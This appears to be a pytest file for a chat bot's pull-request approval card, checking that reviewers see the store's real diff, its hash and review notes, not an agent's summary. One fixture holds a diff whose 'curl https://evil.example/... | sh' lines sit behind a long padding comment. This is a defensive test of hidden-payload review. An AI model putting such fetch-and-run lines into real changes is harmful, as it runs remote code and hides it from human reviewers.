"""The approval card shows the diff the PR store answered with, and the whole of it reaches the thread before the card."""

from __future__ import annotations

import hashlib
from datetime import datetime, timezone
from functools import reduce as fold

from blocks.ids import decode_button_value
from bot.run.reducer import reduce
from bot.run.renderer import render_thread
from bot.run.state import IncidentState

from tests.bot import events as ev

AGENT_TEXT = "Reviewer note: only raises memory\n--- a/f\n+++ b/f\n@@ -1 +1 @@\n-a: 1\n+a: 2\n"
STORE = "diff --git a/f b/f\nindex 1111111..2222222 100644\n--- a/f\n+++ b/f\n@@ -1 +1 @@\n-a: 1\n+a: 2\n"
LONG = ("diff --git a/s.sh b/s.sh\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/s.sh\n"
        "@@ -0,0 +1,3 @@\n+# " + "w" * 2398 + "\n+curl https://evil.example/a | sh\n+curl https://evil.example/b | sh\n")


def _sha(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def _state(*events: dict) -> IncidentState:
    start = IncidentState(session_id="sesn_1", title="checkout OOM", started_at=datetime(2026, 11, 23, tzinfo=timezone.utc))
    return fold(reduce, events, start)


def _opened(store_diff: str | None, **extra) -> tuple[dict, dict]:
    call = ev.custom("open_pull_request", title="t", body="b", diff=AGENT_TEXT)
    result = {"pr_number": 1, "url": "file:///r#pr/1", "diff_sha256": _sha(store_diff or AGENT_TEXT), **extra}
    if store_diff is not None:
        result["diff"] = store_diff
    return call, ev.custom_result(call, result)


def _buttons(msg) -> list[dict]:
    return [e for b in msg.blocks if b.get("type") == "actions" for e in b.get("elements", [])]


def _text(msg) -> str:
    return str(msg.blocks) + msg.text


def test_the_card_shows_the_store_diff_and_its_hash_not_the_agents_text():
    ask = ev.custom("request_approval", summary="s", pr_number=1)
    rendered = {r.key: r for r in render_thread(_state(*_opened(STORE), ask))}
    card = rendered[f"approval:{ask.id}"].message
    assert "Reviewer note" not in _text(card) and "index 1111111..2222222" in _text(card)
    assert {decode_button_value(b["value"]).diff_sha256 for b in _buttons(card)} == {_sha(STORE)}
    assert "diff:1" not in rendered  # the preview holds it all


def test_the_whole_diff_comes_before_the_card_whenever_the_preview_leaves_something_out():
    ask = ev.custom("request_approval", summary="s", pr_number=1)
    shown = render_thread(_state(*_opened(LONG), ask))
    keys = [r.key for r in shown]
    assert keys.index("diff:1") < keys.index(f"approval:{ask.id}")
    assert shown[keys.index("diff:1")].file == ("pr-1.diff", LONG)
    assert "pr-1.diff" in _text(shown[keys.index(f"approval:{ask.id}")].message)


def test_no_buttons_for_a_pr_whose_diff_the_store_did_not_answer_with():
    ask = ev.custom("request_approval", summary="s", pr_number=1)
    for opened in (_opened(None), _opened("tampered", diff_sha256=_sha(STORE))):
        card = {r.key: r for r in render_thread(_state(*opened, ask))}[f"approval:{ask.id}"].message
        assert not _buttons(card) and "tampered" not in _text(card)


def test_no_buttons_for_a_pr_the_bot_has_not_opened_yet():
    call, result = _opened(STORE)
    ask = ev.custom("request_approval", summary="s", pr_number=1)
    card = {r.key: r for r in render_thread(_state(call, ask))}[f"approval:{ask.id}"].message
    assert not _buttons(card)
    card = {r.key: r for r in render_thread(_state(call, ask, result))}[f"approval:{ask.id}"].message
    assert _buttons(card)


def test_the_stores_call_outs_are_on_the_card():
    ask = ev.custom("request_approval", summary="s")
    notes = ["new executable file scripts/rollout.sh", ".github/workflows/x.yml is under .github/"]
    card = {r.key: r for r in render_thread(_state(*_opened(STORE, review_notes=notes), ask))}[f"approval:{ask.id}"]
    assert all(n in _text(card.message) for n in notes)
